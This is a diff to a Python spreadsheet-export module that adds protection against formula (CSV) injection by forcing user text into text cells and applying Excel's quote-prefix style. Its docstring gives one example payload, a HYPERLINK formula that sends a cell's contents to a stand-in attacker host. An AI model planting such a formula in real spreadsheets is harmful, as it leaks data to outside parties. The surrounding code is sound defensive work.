@@ -9,6 +9,24 @@ distinct combination is resolved once per workbook, through openpyxl's own attri
 style array (the indices into those tables) is copied to every further cell, as openpyxl itself does
 when it copies a cell. Pass the shared style objects below (or other long-lived ones): the cache knows
 a style by the identity of its objects.
+
+User text is never a formula (formula or "CSV" injection, OWASP). openpyxl turns any string that starts
+with "=" into a formula and "#N/A" and its kin into error values, so a project named
+`=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")` would become a live link in 项目台账. Exporters
+write every cell that can hold user text through `styled_cell` (write-only sheets) or `text_cell`
+(ordinary sheets), and there a string is held as text:
+
+- its cell type is forced to an (inline) string, so the file holds the text and no formula or error;
+- a text that starts with one of OWASP's formula triggers (=, +, -, @, tab, carriage return) also gets
+  the "quote prefix" style: what Excel does with a typed leading apostrophe. Excel and WPS show the text
+  unchanged, without an apostrophe, and keep it as text when someone edits the cell and presses Enter,
+  where a plain string cell would be re-read as a formula.
+
+So a cell reads back (openpyxl, data_only=False) as the same text, with data_type "s", never "f". Only
+strings are looked at, one first-character test each: numbers (Decimal, int, float, negative ones too)
+stay numeric cells, and the multi-million-cell city-year export pays next to nothing. The platform writes
+no CSV today; one that does must put an apostrophe in front of such a text (a CSV has no cell types, so the
+visible prefix is OWASP's defence there).
 """
 
 import weakref
@@ -56,6 +74,26 @@ def number_format(decimal_places: int) -> str:
 MONEY_FORMAT = number_format(2)
 
 
+# OWASP's list of the first characters that make a spreadsheet program read a cell's text as a formula.
+FORMULA_TRIGGERS = frozenset("=+-@\t\r")
+
+
+def _hold_as_text(cell) -> None:
+    # openpyxl typed "=…" as a formula ("f") and "#N/A" as an error ("e"); the value itself is the text.
+    cell.data_type = "s"
+    if cell._value[0] in FORMULA_TRIGGERS:
+        cell.quotePrefix = True  # on this cell's own copy of the style array
+
+
+def text_cell(cell):
+    """Hold `cell`'s string (if it has one) as text, never a formula; for ordinary (not write-only) sheets,
+    after `ws.cell(…, value=…)`. Returns the cell; numbers and empty cells are left as they are."""
+    value = cell._value
+    if isinstance(value, str) and value and (value[0] in FORMULA_TRIGGERS or cell.data_type != "s"):
+        _hold_as_text(cell)
+    return cell
+
+
 # workbook → {(id(font), id(fill), id(border), id(alignment), number format): (style array, the style objects)}
 # The entry keeps its objects alive, so their ids cannot be reused by other objects while it exists.
 _STYLE_ARRAYS: "weakref.WeakKeyDictionary[object, dict[tuple, tuple[StyleArray, tuple]]]" = weakref.WeakKeyDictionary()
@@ -85,13 +123,19 @@ def _style_array(ws, font, fill, border, alignment, number_format) -> StyleArray
 
 
 def styled_cell(ws, value, *, font=BODY_FONT, fill=None, border=BORDER, alignment=None, number_format=None):
-    """A write-only cell with the house style; `value` may be None for an empty, bordered cell."""
+    """A write-only cell with the house style; `value` may be None for an empty, bordered cell.
+
+    A string is always held as text, never a formula (see the module's docstring)."""
     if alignment is None and isinstance(value, _NUMBER):
         alignment = RIGHT
     # As WriteOnlyCell(ws, value) with the style array copied in (Cell copies the array it is given).
-    return Cell(
+    cell = Cell(
         ws, row=1, column=1, value=value, style_array=_style_array(ws, font, fill, border, alignment, number_format)
     )
+    # Inline rather than text_cell(): this runs for every cell of the city-year export.
+    if isinstance(value, str) and value and (value[0] in FORMULA_TRIGGERS or cell.data_type != "s"):
+        _hold_as_text(cell)
+    return cell
 
 
 def header_row(ws, labels: Iterable[str]) -> list[WriteOnlyCell]:
